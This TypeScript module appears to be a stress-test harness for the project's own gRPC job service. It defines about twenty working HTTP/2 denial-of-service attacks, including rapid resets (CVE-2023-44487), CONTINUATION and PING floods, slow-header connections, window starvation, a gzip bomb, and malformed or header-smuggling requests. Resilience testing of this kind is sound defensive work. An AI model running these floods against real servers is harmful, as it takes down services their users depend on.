/** What a client can do to a server with HTTP/2 alone. Each attack goes on until it is told to end. */
import { setImmediate } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { data, FLAG, frame, grpcHeaders, grpcMessage, headerBlock, open, PREFACE, reset, SETTING, settings, TYPE } from './frames.ts';
import { RawConnection, type RawOptions } from './raw_connection.ts';

export interface Target {
  address: string;
  /** Of a job with a large payload. */
  jobId: string;
  goesOn: () => boolean;
}

/** The connections that an attack had, for what is to be seen of their end. */
type Attack = (target: Target) => Promise<RawConnection[]>;

const GET_JOB = '/skiplease.v1.JobService/GetJob';
const SUBMIT_JOBS = '/skiplease.v1.JobService/SubmitJobs';
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
/** Streams of a client have odd numbers. */
const streams = (count: number, first = 1): number[] => Array.from({ length: count }, (_, index) => first + 2 * index);

/** So many connections at once, each doing the same; one that is closed is opened anew, until the end. */
async function swarm(target: Target, count: number, act: (connection: RawConnection) => Promise<void>, options?: RawOptions): Promise<RawConnection[]> {
  const all: RawConnection[] = [];
  await Promise.all(Array.from({ length: count }, async () => {
    do {
      const connection = await RawConnection.to(target.address, options);
      all.push(connection);
      await act(connection);
      connection.close();
      await connection.closed;
    } while (target.goesOn());
  }));
  return all;
}

/** Does it again and again on one connection. */
function repeating(target: Target, act: (connection: RawConnection, round: number) => Promise<void>): (connection: RawConnection) => Promise<void> {
  return async (connection) => {
    for (let round = 0; !connection.isClosed && target.goesOn(); round += 1) {
      await act(connection, round);
      await setImmediate();
    }
  };
}

/** Holds the connection, quietly, until the end or until it is closed. */
async function hold(target: Target, connection: RawConnection): Promise<void> {
  while (!connection.isClosed && target.goesOn()) {
    await new Promise((resolve) => {
      setTimeout(resolve, 20);
    });
  }
}

function jobIdMessage(jobId: string): Buffer {
  return grpcMessage(Buffer.concat([Buffer.from([0x0a, jobId.length]), Buffer.from(jobId)]));
}

export const ATTACKS: Record<string, Attack> = {
  /** CVE-2023-44487: calls that are cancelled as soon as they are made. */
  'rapid resets': (target) => swarm(target, 2, repeating(target, (connection, round) =>
    connection.write(Buffer.concat(streams(100, 1 + round * 200).flatMap((stream) => [open(stream, GET_JOB), reset(stream)]))))),

  'more calls at once than a connection may have, none of them complete': (target) => swarm(target, 2, async (connection) => {
    await connection.write(Buffer.concat(streams(1_500).flatMap((stream) => [open(stream, SUBMIT_JOBS), data(stream, grpcMessage(Buffer.alloc(10), { length: 500_000 }))])));
    await hold(target, connection);
  }),

  'headers that come byte by byte': (target) => swarm(target, 50, async (connection) => {
    const headers = frame(TYPE.headers, 0, 1, grpcHeaders(GET_JOB));
    let at = 0;
    await repeating(target, async () => {
      await connection.write(headers.subarray(at % headers.length, (at % headers.length) + 1));
      at += 1;
      await new Promise((resolve) => {
        setTimeout(resolve, 10);
      });
    })(connection);
  }),

  'messages that come byte by byte, each a frame of its own': (target) => swarm(target, 2, async (connection) => {
    await connection.write(Buffer.concat([open(1, SUBMIT_JOBS), data(1, grpcMessage(Buffer.alloc(0), { length: 900_000 }))]));
    await repeating(target, () => connection.write(data(1, Buffer.alloc(2_000), { frameBytes: 1 })))(connection);
  }),

  'giant headers': (target) => swarm(target, 4, repeating(target, async (connection, round) => {
    const stream = 1 + 2 * round;
    const many = headerBlock(Array.from({ length: 1_000 }, (_, index) => [`x-${index}`, 'x'] as const));
    const large = grpcHeaders(GET_JOB, [['x-large', 'x'.repeat(15_000)]]);
    const [first, ...others] = round % 2 === 0 ? [Buffer.concat([grpcHeaders(GET_JOB), many])] : [large, large, large, large, large];
    await connection.write(Buffer.concat([
      frame(TYPE.headers, others.length === 0 ? FLAG.endHeaders : 0, stream, first),
      ...others.map((part, index) => frame(TYPE.continuation, index === others.length - 1 ? FLAG.endHeaders : 0, stream, part)),
    ]));
  })),

  'headers without end': (target) => swarm(target, 4, async (connection) => {
    await connection.write(frame(TYPE.headers, 0, 1, grpcHeaders(GET_JOB)));
    const empty = Buffer.concat(Array.from({ length: 1_000 }, () => frame(TYPE.continuation, 0, 1)));
    await repeating(target, () => connection.write(empty))(connection);
  }),

  'a flood of PINGs, answers unread': (target) => swarm(target, 2, repeating(target, (connection) => connection.write(PINGS)), { reads: false }),
  'a flood of PINGs, answers read': (target) => swarm(target, 4, repeating(target, (connection) => connection.write(PINGS))),
  'a flood of SETTINGS, answers unread': (target) => swarm(target, 2, repeating(target, (connection) => connection.write(SETTINGS)), { reads: false }),
  'a flood of SETTINGS, answers read': (target) => swarm(target, 4, repeating(target, (connection) => connection.write(SETTINGS))),
  'frames that mean nothing': (target) => swarm(target, 4, repeating(target, (connection) => connection.write(NOTHINGS))),

  'large answers that nobody reads (no window)': (target) => swarm(target, 4, async (connection) => {
    await connection.write(Buffer.concat(streams(300).flatMap((stream) => [open(stream, GET_JOB), data(stream, jobIdMessage(target.jobId), { end: true })])));
    await hold(target, connection);
  }, { greeting: Buffer.concat([PREFACE, settings({ [SETTING.initialWindowSize]: 0 })]) }),

  'large answers that nobody reads (no reads)': (target) => swarm(target, 4, async (connection) => {
    await connection.write(Buffer.concat(streams(300).flatMap((stream) => [open(stream, GET_JOB), data(stream, jobIdMessage(target.jobId), { end: true })])));
    await hold(target, connection);
  }, { reads: false }),

  'questions to the reflection, answers unread': (target) => swarm(target, 2, async (connection) => {
    // file_containing_symbol
    const symbol = Buffer.from('skiplease.v1.JobService');
    const question = grpcMessage(Buffer.concat([Buffer.from([0x22, symbol.length]), symbol]));
    await connection.write(open(1, REFLECTION));
    await repeating(target, () => connection.write(Buffer.concat(Array.from({ length: 10 }, () => data(1, question)))))(connection);
  }, { greeting: Buffer.concat([PREFACE, settings({ [SETTING.initialWindowSize]: 0 })]) }),

  'connections that say nothing': (target) => swarm(target, 1_100, (connection) => hold(target, connection), { greeting: Buffer.alloc(0) }),
  'connections that come and go': (target) => swarm(target, 20, () => Promise.resolve()),

  'uploads that stop before their end': (target) => swarm(target, 2, async (connection) => {
    for (const stream of streams(100)) {
      await connection.write(Buffer.concat([open(stream, SUBMIT_JOBS), data(stream, grpcMessage(Buffer.alloc(600_000), { length: 900_000 }))]));
    }
    await hold(target, connection);
  }),

  'small messages that inflate': (target) => swarm(target, 2, repeating(target, (connection, round) =>
    connection.write(Buffer.concat(streams(20, 1 + round * 40).flatMap((stream) => [
      open(stream, SUBMIT_JOBS, { more: [['grpc-encoding', 'gzip']] }), data(stream, grpcMessage(BOMB, { compressed: true }), { end: true }),
    ]))))),

  'requests that are none': (target) => swarm(target, 4, repeating(target, async (connection, round) => {
    const first = 1 + round * 2 * ODD_REQUESTS.length;
    await connection.write(Buffer.concat(ODD_REQUESTS.map((block, index) => frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, first + 2 * index, block))));
  })),
};

const PINGS = Buffer.concat(Array.from({ length: 2_000 }, () => frame(TYPE.ping, 0, 0, Buffer.alloc(8))));
const SETTINGS = Buffer.concat(Array.from({ length: 1_000 }, () => settings({ [SETTING.initialWindowSize]: 65_535 })));
/** For streams that are not, of types that are not, and priorities of anybody. */
const NOTHINGS = Buffer.concat(Array.from({ length: 500 }, () => [
  frame(TYPE.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])), frame(0x42, 0, 0, Buffer.alloc(100)), frame(TYPE.priority, 0, 99, Buffer.alloc(5)), frame(TYPE.data, 0, 1),
]).flat());
const BOMB = gzipSync(Buffer.alloc(1_990_000));

const POST = [[':method', 'POST'], [':scheme', 'http'], [':authority', 'x']] as const;
const GRPC = ['content-type', 'application/grpc'] as const;
const ODD_REQUESTS = [
  headerBlock([...POST, [':path', '/']]),
  headerBlock([...POST, [':path', '/'], GRPC]),
  headerBlock([...POST, [':path', `/${'x'.repeat(10_000)}`], GRPC]),
  headerBlock([...POST, [':path', '/skiplease.v1.JobService/\u00ff\u00fe\u0080'], GRPC]),
  headerBlock([...POST, [':path', '/skiplease.v1.JobService/%0a%00'], GRPC]),
  headerBlock([...POST, [':path', '/skiplease.v1.JobService/ä b'], GRPC]),
  headerBlock([...POST, [':path', GET_JOB]]),
  headerBlock([...POST, [':path', GET_JOB], ['content-type', 'application/grpc-web']]),
  headerBlock([[':method', 'GET'], [':scheme', 'http'], [':authority', 'x'], [':path', GET_JOB], GRPC]),
  headerBlock([[':method', 'CONNECT'], [':authority', 'x:1'], GRPC]),
  headerBlock([...POST, GRPC]),
  grpcHeaders(GET_JOB),
  grpcHeaders(GET_JOB, [['grpc-timeout', 'x']]),
  grpcHeaders(GET_JOB, [['grpc-timeout', '99999999H']]),
  grpcHeaders(GET_JOB, [['grpc-encoding', 'none-such']]),
  grpcHeaders(GET_JOB, [['x-noise-bin', '%%%']]),
  grpcHeaders(GET_JOB, [['__proto__', 'x'], ['constructor', 'y']]),
  grpcHeaders(GET_JOB, [['x-two', '1'], ['x-two', '2'], ['set-cookie', '1'], ['set-cookie', '2']]),
  grpcHeaders(REFLECTION),
  grpcHeaders('/grpc.health.v1.Health/Check'),
];
